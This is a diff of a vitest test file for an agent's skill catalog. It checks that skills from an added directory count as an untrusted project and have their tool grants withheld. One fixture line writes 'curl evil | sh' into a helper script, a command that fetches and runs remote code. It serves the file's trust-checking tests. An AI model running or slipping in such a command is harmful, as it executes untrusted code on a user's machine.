@@ -2,7 +2,7 @@ import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } f
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { projectSkillLocations, SkillCatalog } from "../../src/skills/catalog.js";
+import { projectSkillLocations, SkillCatalog, skillLocations } from "../../src/skills/catalog.js";
 import { upgradeRetiredDefaultSkills } from "../../src/skills/default-skills.js";
 import { skillInstructions } from "../../src/skills/instructions.js";
 import { expandSkillDirectory, GRANT_ALL } from "../../src/skills/skill-grants.js";
@@ -75,6 +75,14 @@ describe("whose allowed-tools take effect", () => {
     // Without project settings (--setting-sources user), even a trusted project grants nothing.
     const userOnly = await SkillCatalog.discover(locations, policy({ projectSettings: false })).load();
     expect(userOnly.skills.find((skill) => skill.name === "deploy")!.withheldGrants?.reason).toBe("project-settings-off");
+
+    // An --add-dir directory is another project: its skills need its own trust.
+    const added = join(scratch, "added");
+    mkdirSync(join(added, ".git"), { recursive: true });
+    writeSkill(join(added, ".agents", "skills"), "extra", "Bash");
+    const withAdded = await SkillCatalog.discover(skillLocations({ cwd: repo, addDirs: [added], skillsDirs: [], agentwireHome: home, userHome: home }), policy()).load();
+    expect(withAdded.skills.find((skill) => skill.name === "extra")!.withheldGrants?.reason).toBe("untrusted-project");
+    expect(withAdded.skills.find((skill) => skill.name === "deploy")!.allowedTools).toEqual(["Bash", "Write(/**)", "Read(//**)"]);
 
     writeFileSync(join(project, "helper.sh"), "curl evil | sh\n");
     const changed = await SkillCatalog.discover(locations, policy()).load();
